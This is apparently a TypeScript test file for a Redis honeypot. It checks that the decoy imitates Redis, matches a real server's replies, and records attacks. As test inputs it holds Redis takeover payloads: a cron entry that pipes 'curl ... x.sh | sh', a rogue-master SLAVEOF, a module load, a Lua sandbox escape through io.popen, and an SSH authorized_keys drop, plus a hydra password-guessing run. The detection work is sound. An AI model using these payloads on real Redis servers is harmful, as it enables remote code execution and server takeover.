import { Buffer } from 'node:buffer';
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { DecoyContext, DecoyOutput } from '../../core/decoy.ts';
import type { Persona } from '../../core/persona.ts';
import { createPersona } from '../../personas/index.ts';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { redis } from './redis.ts';

const now = Date.parse('2026-03-01T12:00:00Z');

// A copy of a persona is a new machine to the decoy; the spread reads its keys, which take a while to make.
const base: Persona = { ...createPersona('debian-db', 'redis test', { now }) };

function persona(version = '6.0.16', password?: string): Persona {
  const redisIdentity = { version, runId: 'a'.repeat(40), ...(password === undefined ? {} : { password }) };
  return { ...base, redis: redisIdentity, login: { accepted: [], acceptAfter: 0 } };
}

function contextOf(who: Persona): DecoyContext {
  let attempts = 0;
  return {
    persona: who,
    source: '198.51.100.7',
    sourcePort: 40_000,
    destination: '203.0.113.5',
    destinationPort: 6379,
    transport: 'tcp',
    tls: false,
    session: 'session',
    now: () => now,
    randomBytes: (count) => new Uint8Array(count),
    countAttempt: () => (attempts += 1),
  };
}

function talk(pieces: readonly Uint8Array[], who = persona()): DecoyOutput[] {
  const session = redis.open(contextOf(who));
  return pieces.flatMap((piece) => [...session.receive(piece)]);
}

const repliesOf = (outputs: readonly DecoyOutput[]): string =>
  outputs
    .map((output) => (output.do === 'reply' ? Buffer.from(output.bytes).toString('latin1') : ''))
    .join('');

const say = (text: string, who = persona()): DecoyOutput[] => talk([Buffer.from(text, 'latin1')], who);

const exploitsOf = (outputs: readonly DecoyOutput[]): string[] =>
  outputs.flatMap((output) =>
    output.do === 'saw' && output.fact.kind === 'exploit' ? [output.fact.name] : [],
  );

describe('the redis decoy', () => {
  it('recognises a cron drop at its save, and keeps the file that would have been written', () => {
    const outputs = say(
      'SET x "\\n* * * * * curl -fsSL http://203.0.113.66/x.sh | sh\\n"\r\nCONFIG SET dir /var/spool/cron\r\nCONFIG SET dbfilename root\r\nSAVE\r\n',
    );
    expect(exploitsOf(outputs)).toEqual(['redis-cron-drop']);
    const capture = outputs.find((output) => output.do === 'capture');
    expect(capture?.do === 'capture' && capture.name).toBe('/var/spool/cron/root');
    expect(capture?.do === 'capture' && Buffer.from(capture.bytes).toString('latin1')).toContain(
      '* * * * * curl -fsSL http://203.0.113.66/x.sh | sh',
    );
    const urls = outputs.flatMap((output) =>
      output.do === 'saw' && output.fact.kind === 'command' ? (output.fact.urls ?? []) : [],
    );
    expect(urls).toEqual(['http://203.0.113.66/x.sh']);
    expect(repliesOf(outputs)).toBe('+OK\r\n+OK\r\n+OK\r\n+OK\r\n');
  });

  it('recognises the other ways by which Redis is taken over', () => {
    const who = persona();
    expect(exploitsOf(say('SLAVEOF 203.0.113.9 8080\r\n', who))).toEqual(['redis-rogue-master']);
    expect(repliesOf(say('INFO replication\r\n', who))).toContain('master_host:203.0.113.9\r\n');
    expect(exploitsOf(say('SLAVEOF NO ONE\r\n', who))).toEqual([]);
    expect(exploitsOf(say('MODULE LOAD /tmp/exp.so\r\n', who))).toEqual(['redis-module-load']);
    expect(exploitsOf(say('system.exec "id"\r\n', who))).toEqual(['redis-module-command']);
    const lua =
      "EVAL \"local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io'); local io = io_l(); local f = io.popen('id', 'r'); return f:read('*a')\" 0\r\n";
    const outputs = say(lua, who);
    expect(exploitsOf(outputs)).toEqual(['redis-lua-escape']);
    expect(repliesOf(outputs)).toContain('uid=106(redis)');
    const ssh = say('CONFIG SET dir /root/.ssh\r\nCONFIG SET dbfilename authorized_keys\r\nBGSAVE\r\n', who);
    expect(exploitsOf(ssh)).toEqual(['redis-ssh-key-drop']);
  });

  it('has no exploit to tell of in ordinary use', () => {
    expect(exploitsOf(say('SET a b\r\nGET a\r\nSAVE\r\nEVAL "return 1" 0\r\nCONFIG GET dir\r\n'))).toEqual(
      [],
    );
  });

  it('keeps what a visitor wrote for his next connection, and for nobody else', () => {
    const who = persona();
    say('SET mine 1\r\n', who);
    expect(repliesOf(say('GET mine\r\n', who))).toBe('$1\r\n1\r\n');
    const session = redis.open({ ...contextOf(who), source: '198.51.100.8' });
    expect(repliesOf([...session.receive(Buffer.from('GET mine\r\n'))])).toBe('$-1\r\n');
  });

  it('asks for the password where it has one, and records each guess', () => {
    const who = persona('6.0.16', 'foobared');
    const outputs = say('GET a\r\nAUTH wrong\r\nAUTH foobared\r\nGET a\r\n', who);
    expect(repliesOf(outputs)).toBe(
      '-NOAUTH Authentication required.\r\n-WRONGPASS invalid username-password pair\r\n+OK\r\n$-1\r\n',
    );
    const guesses = outputs.flatMap((output) =>
      output.do === 'saw' && output.fact.kind === 'auth'
        ? [[output.fact.password, output.fact.accepted]]
        : [],
    );
    expect(guesses).toEqual([
      ['wrong', false],
      ['foobared', true],
    ]);
  });

  it('words an unknown command as its version does', () => {
    expect(repliesOf(say('nope a b\r\n'))).toBe(
      '-ERR unknown command `nope`, with args beginning with: `a`, `b`, \r\n',
    );
    expect(repliesOf(say('nope a b\r\n', persona('7.0.15')))).toBe(
      "-ERR unknown command 'nope', with args beginning with: 'a' 'b' \r\n",
    );
  });

  it('hangs up on a browser', () => {
    const outputs = say('POST / HTTP/1.1\r\nHost: x\r\n\r\n');
    expect(outputs.at(-1)).toEqual({ do: 'close' });
    expect(repliesOf(outputs)).toBe('');
  });

  it('knows its protocol and no other', () => {
    const sure = (text: string): number => redis.recognise?.(Buffer.from(text)) ?? 0;
    expect(sure('*1\r\n$4\r\nPING\r\n')).toBe(1);
    expect(sure('INFO\r\n')).toBeGreaterThan(0.5);
    expect(sure('GET / HTTP/1.1\r\n')).toBe(0);
    expect(sure('SSH-2.0-Go\r\n')).toBe(0);
  });

  const words = fc.oneof(
    fc.constantFrom(
      'SET',
      'get',
      'CONFIG',
      'dir',
      'SAVE',
      'a',
      'b',
      '*',
      '1',
      '-1',
      'EVAL',
      'LPUSH',
      'LRANGE',
      'SADD',
      'SMEMBERS',
      'HSET',
      'HGETALL',
      'INFO',
      'SUBSCRIBE',
      'HELLO',
      '3',
      'MULTI',
      'EXEC',
      'SCAN',
      '0',
      'KEYS',
      'ZADD',
      'ZRANGE',
      'SETRANGE',
      'APPEND',
      'TTL',
      'EXPIRE',
    ),
    fc.string({ maxLength: 12 }),
  );
  const command = fc.array(words, { minLength: 1, maxLength: 6 }).map((each) => {
    const parts = each.map((one) => `$${Buffer.byteLength(one)}\r\n${one}\r\n`);
    return Buffer.from(`*${each.length}\r\n${parts.join('')}`);
  });

  it('says the same however the bytes are split', () => {
    fc.assert(
      fc.property(
        fc.array(command, { minLength: 1, maxLength: 8 }),
        fc.array(fc.nat(400), { maxLength: 12 }),
        (commands, cuts) => {
          const bytes = Buffer.concat(commands);
          const points = [...new Set([0, ...cuts.map((cut) => cut % (bytes.length + 1)), bytes.length])].sort(
            (a, b) => a - b,
          );
          const pieces = points.slice(1).map((point, index) => bytes.subarray(points[index], point));
          expect(talk(pieces)).toEqual(talk([bytes]));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('survives any bytes and any truncation', () => {
    fc.assert(
      fc.property(fc.oneof(fc.uint8Array({ maxLength: 300 }), command), fc.nat(300), (bytes, cut) => {
        for (const output of talk([bytes.subarray(0, cut), bytes.subarray(cut)])) {
          expect(['reply', 'saw', 'capture', 'close', 'know']).toContain(output.do);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('does not grow beyond its bounds', () => {
    const who = persona();
    const megabyte = 'x'.repeat(1_000_000);
    const outputs = [0, 1, 2, 3].flatMap((index) =>
      say(`*3\r\n$3\r\nSET\r\n$2\r\nk${index}\r\n$1000000\r\n${megabyte}\r\n`, who),
    );
    expect(repliesOf(outputs)).toContain("-OOM command not allowed when used memory > 'maxmemory'.");
    expect(repliesOf(say('FLUSHALL\r\nSET a b\r\n', who))).toBe('+OK\r\n+OK\r\n');
    expect(repliesOf(say('SETRANGE far 500000000 x\r\n', who))).toContain('-OOM');
  });
});

/** Lines of which a server of version 7.0 says the same on every machine. */
const lines = `
PING
PING hello
PING a b
ECHO hello
ECHO
SET
SET a
SET a b
GET a
GET
GET a b
SET a b NX
SET n v NX
SET a c XX
SET q c XX
SET a b EX
SET a b EX 0
SET a b EX x
SET a b PX 100000
TTL a
PERSIST a
PERSIST a
TTL a
TTL none
PTTL none
SET a b XX NX
SET a b GET
SETNX a b
SETNX fresh b
SETEX s 100 v
SETEX s 0 v
SETEX s x v
PSETEX s 100000 v
GETSET a z
GETDEL fresh
GETDEL fresh
STRLEN a
STRLEN none
APPEND a xyz
GETRANGE a 0 1
GETRANGE a -2 -1
GETRANGE a 5 1
GETRANGE a -1 -5
GETRANGE a 0 -100
GETRANGE a x 1
SUBSTR a 0 0
SETRANGE a 2 HELLO
SETRANGE a -1 x
SETRANGE none2 3 x
GET none2
SETRANGE a 999999999999 x
INCR i
INCR i
INCRBY i 10
INCRBY i x
DECR i
DECRBY i 3
INCR a
INCRBYFLOAT f 1.5
INCRBYFLOAT f x
INCRBYFLOAT f 0.25
SET big 9223372036854775807
INCR big
DECRBY big -1
MSET x 1 y 2
MSET x
MSET x 1 y
MGET x y none
MSETNX x 1 z 2
MSETNX m1 1 m2 2
SETBIT bits 7 1
GETBIT bits 7
GETBIT bits 100
SETBIT bits -1 1
SETBIT bits 1 2
LPUSH l a b c
RPUSH l d
LPUSHX nolist x
RPUSHX l e
LRANGE l 0 -1
LRANGE l 1 2
LRANGE l -2 -1
LRANGE l 5 10
LRANGE l x 1
LRANGE none 0 -1
LLEN l
LLEN a
LINDEX l 0
LINDEX l -1
LINDEX l 100
LINDEX l x
LSET l 0 zz
LSET l 100 zz
LSET none 0 x
LREM l 1 a
LREM l 0 nope
LTRIM l 0 1
LRANGE l 0 -1
LPOP l
RPOP l
LPOP l
LPOP none 2
RPUSH l2 1 2 3 4
LPOP l2 2
RPOP l2 5
LPOP l2 -1
LPOP l2 x
LPOP
GET l
LPUSH a x
SADD s1 a
SADD s1 a b
SADD s a
SCARD s1
SISMEMBER s1 a
SISMEMBER s1 z
SREM s1 a
SMEMBERS s1
SADD s2 b c
SINTER s1 s2
SDIFF s1 s2
SINTERSTORE dest s1 s2
SMEMBERS dest
SUNIONSTORE dest none1 none2x
SINTER a s1
HSET h f v
HSET h f v2
HSET h f
HSET h f v g
HMSET h a 1 b 2
HGET h f
HGET h none
HMGET h f none b
HGETALL h
HKEYS h
HVALS h
HLEN h
HEXISTS h f
HEXISTS h zz
HSTRLEN h f
HDEL h f zz
HDEL none f
HINCRBY h a 5
HINCRBY h b x
HSET h t text
HINCRBY h t 1
HSETNX h a 9
HSETNX h new 9
HGET a f
ZADD z 1 one 2 two
ZADD z x one
ZADD z 1
ZADD z 1 one 2
ZCARD z
ZSCORE z one
ZSCORE z none
ZRANGE z 0 -1
ZRANGE z 0 -1 WITHSCORES
ZREVRANGE z 0 0
ZREM z one
ZREM z none
ZADD z 1.5 half
ZRANGE z 0 -1 WITHSCORES
EXISTS a b none
EXISTS
TYPE a
TYPE l2
TYPE s1
TYPE h
TYPE z
TYPE none
DEL none
DEL z
UNLINK x y
TOUCH a none
RENAME none b
RENAME a aa
RENAMENX aa h
RENAMENX aa a
MOVE a 1
MOVE a 99
MOVE a x
MOVE a 0
SELECT 1
GET a
DBSIZE
SELECT 0
SELECT 16
SELECT -1
SELECT abc
SELECT
KEYS none*
KEYS
FLUSHDB
DBSIZE
KEYS *
SET k1 1
KEYS k?
KEYS k[0-9]
KEYS k[^1]
KEYS *1
SCAN 0
SCAN 0 MATCH k* COUNT 100
SCAN 0 MATCH z*
SCAN x
SCAN 0 COUNT 0
SCAN 0 COUNT x
SCAN 0 FOO
SCAN 0 TYPE string
SCAN 0 TYPE list
EXPIRE k1 100
EXPIRE none 100
EXPIRE k1 x
PEXPIRE k1 100000
EXPIREAT k1 9999999999
EXPIRE k1 -1
GET k1
RANDOMKEY
OBJECT ENCODING none
SET e 12
OBJECT ENCODING e
SET e abc
OBJECT ENCODING e
OBJECT REFCOUNT none
OBJECT FOO e
OBJECT
MEMORY USAGE none
MEMORY DOCTOR
MEMORY FOO
CONFIG
CONFIG FOO
CONFIG GET
CONFIG GET nothing-here
CONFIG GET maxmemory
CONFIG GET databases
CONFIG GET hz
CONFIG SET dir /tmp
CONFIG SET dbfilename x
CONFIG SET nothing here
CONFIG SET maxmemory
CONFIG SET timeout 0
CONFIG SET appendonly maybe
CONFIG SET databases 5
CONFIG RESETSTAT
CONFIG RESETSTAT x
AUTH x
AUTH a b
AUTH default anything
AUTH a b c
AUTH
HELLO 4
HELLO x
HELLO 2 FOO
SLAVEOF
SLAVEOF NO ONE
REPLICAOF no one
SLAVEOF host notaport
SLAVEOF host 99999
ROLE
MODULE LIST
MODULE LOAD /tmp/x.so
MODULE FOO
MODULE
CLIENT FOO
CLIENT GETNAME
CLIENT SETNAME me
CLIENT GETNAME
CLIENT SETNAME "a b"
CLIENT SETNAME
COMMAND COUNT
COMMAND FOO
COMMAND INFO nope
SLOWLOG LEN
SLOWLOG RESET
SLOWLOG FOO
LATENCY LATEST
LATENCY RESET
LATENCY FOO
EVAL "return 1" 0
EVAL "return 'x'" 0
EVAL "return {1,2,'a'}" 0
EVAL "return KEYS[1]" 1 kk
EVAL "return ARGV[1]" 0 vv
EVAL "return ARGV[2]" 0 vv
EVAL "return redis.call('get', KEYS[1])" 1 e
EVAL "return nil" 0
EVAL "return true" 0
EVAL "return 1" x
EVAL "return 1" 5
EVAL "return 1" -1
EVAL "return 3.7" 0
EVAL
EVALSHA abc 0
SCRIPT LOAD "return 7"
SCRIPT EXISTS abc
SCRIPT FOO
SCRIPT LOAD
SCRIPT FLUSH
SCRIPT KILL
DEBUG
ACL WHOAMI
ACL LIST
ACL USERS
ACL FOO
CLUSTER INFO
PUBLISH ch hello
PUBLISH ch
PUBSUB CHANNELS
PUBSUB NUMPAT
PUBSUB NUMSUB a
PUBSUB FOO
WATCH e
UNWATCH
EXEC
DISCARD
MULTI
SET t 1
INCR t
GET t
EXEC
MULTI
MULTI
DISCARD
MULTI
NOSUCH
EXEC
MULTI
SET
EXEC
nosuchcommand
nosuchcommand a b c
NOSUCH 'quoted arg' "x y"
get
Get e
INFO nothinghere
WAIT 0 0
READONLY
FLUSHALL
FLUSHALL x
FLUSHALL ASYNC
FLUSHALL ASYNC SYNC
SAVE x
SUBSCRIBE
RESET
SET after 1
`
  .trim()
  .split('\n');

/** Sends each line, and ends with ECHO of a mark: everything up to the mark is the answers. */
async function ask(port: number, texts: readonly string[]): Promise<string[]> {
  const answers: string[] = [];
  const socket = connect(port, '127.0.0.1');
  let held = '';
  let wake = (): void => {};
  socket.setEncoding('latin1');
  socket.on('data', (piece: string) => {
    held += piece;
    wake();
  });
  socket.on('error', () => wake());
  for (const [index, text] of texts.entries()) {
    const mark = `mark-${index}-mark`;
    // Inside a transaction the mark itself is queued, so it is asked for as an error that is never queued.
    socket.write(`${text}\r\n${mark}\r\n`, 'latin1');
    const end = `'${mark}', with args beginning with: \r\n`;
    const until = Date.now() + 5_000;
    while (!held.endsWith(end) && Date.now() < until) {
      await new Promise<void>((resolve) => {
        wake = resolve;
        setTimeout(resolve, 500);
      });
    }
    answers.push(held.slice(0, held.length - end.length - '-ERR unknown command '.length));
    held = '';
  }
  socket.destroy();
  return answers;
}

describe('beside a real server', () => {
  needTools(['redis-server'])(
    'answers as Redis 7.0.15 does',
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'redis-'));
      const port = 20_000 + Math.floor(Math.random() * 20_000);
      const server = spawn(
        'redis-server',
        [
          '--port',
          String(port),
          '--bind',
          '127.0.0.1',
          '--dir',
          folder,
          '--save',
          '',
          '--protected-mode',
          'no',
        ],
        { stdio: 'ignore' },
      );
      try {
        for (let tries = 0; tries < 100; tries += 1) {
          const open = await new Promise<boolean>((resolve) => {
            const probe = connect(port, '127.0.0.1', () => resolve(true));
            probe.on('error', () => resolve(false));
            probe.on('connect', () => probe.destroy());
          });
          if (open) break;
          await sleep(50);
        }
        await using served = await serveDecoy(redis, persona('7.0.15'));
        await ask(served.port, ['FLUSHALL']);
        // A transaction that a mark has spoiled differs from one that it has not, so both see the same marks.
        const [real, ours] = [await ask(port, lines), await ask(served.port, lines)];
        const different = lines.flatMap((line, index) =>
          real[index] === ours[index]
            ? []
            : [`${line}\n   real ${JSON.stringify(real[index])}\n   ours ${JSON.stringify(ours[index])}`],
        );
        expect(different.join('\n')).toBe('');
        expect(served.errors).toEqual([]);
        const fields = (text: string): string[] =>
          text
            .split('\r\n')
            .flatMap((line) =>
              line.startsWith('#') || line.includes(':') ? [line.split(':')[0] ?? ''] : [],
            );
        const [realInfo = '', ourInfo = ''] = [
          ...(await ask(port, ['INFO'])),
          ...(await ask(served.port, ['INFO'])),
        ];
        expect(fields(ourInfo).filter((name) => !name.startsWith('db'))).toEqual(
          fields(realInfo).filter((name) => !name.startsWith('db') && !name.startsWith('errorstat')),
        );
      } finally {
        server.kill();
        rmSync(folder, { recursive: true, force: true });
      }
    },
    60_000,
  );

  needTools(['redis-cli'])('serves redis-cli', async () => {
    await using served = await serveDecoy(redis, persona());
    const run = async (...words: string[]): Promise<string> => {
      const child = spawn('redis-cli', ['-p', String(served.port), ...words]);
      let text = '';
      child.stdout.on('data', (piece: Buffer) => (text += piece.toString()));
      await new Promise((resolve) => child.on('close', resolve));
      return text;
    };
    expect(await run('set', 'key', 'a value')).toBe('OK\n');
    expect(await run('get', 'key')).toBe('a value\n');
    expect(await run('-3', 'hgetall', 'nothing')).toBe('\n');
    expect(await run('info', 'server')).toContain('redis_version:6.0.16');
    expect(await run('config', 'get', 'dir')).toBe('dir\n/var/lib/redis\n');
    expect(served.errors).toEqual([]);
  });

  needTools(['hydra'])('is guessed by hydra, each guess recorded', async () => {
    await using served = await serveDecoy(redis, persona('6.0.16', 'letmein'));
    const folder = mkdtempSync(join(tmpdir(), 'hydra-'));
    try {
      writeFileSync(join(folder, 'list'), 'one\ntwo\nletmein\n');
      const child = spawn(
        'hydra',
        ['-I', '-t', '1', '-P', join(folder, 'list'), '-s', String(served.port), 'redis://127.0.0.1'],
        { cwd: folder },
      );
      let text = '';
      child.stdout.on('data', (piece: Buffer) => (text += piece.toString()));
      await new Promise((resolve) => child.on('close', resolve));
      expect(text).toContain('password: letmein');
      const guesses = served.facts.flatMap((fact) => (fact.kind === 'auth' ? [fact.password] : []));
      expect(guesses).toEqual(expect.arrayContaining(['one', 'two', 'letmein']));
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});

describe('a hostile visitor', () => {
  it('cannot have one command make an endless reply', () => {
    const who = persona();
    say(`*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$900000\r\n${'x'.repeat(900_000)}\r\n`, who);
    const outputs = say(`MGET ${'k '.repeat(5000)}\r\nPING\r\n`, who);
    expect(outputs.at(-1)).toEqual({ do: 'close' });
    expect(repliesOf(outputs)).toBe('');
  });

  it('cannot keep the decoy busy with a pattern', () => {
    const who = persona();
    for (let index = 0; index < 20; index += 1) say(`SET ${'a'.repeat(400)}${index} x\r\n`, who);
    expect(repliesOf(say(`KEYS ${'*a'.repeat(500)}b\r\n`, who))).toBe('*0\r\n');
  });

  it('is cut off where his work exceeds its bound', () => {
    const outputs = say('SETBIT b 6000000 1\r\n'.repeat(1000));
    expect(outputs.at(-1)).toEqual({ do: 'close' });
  });
});
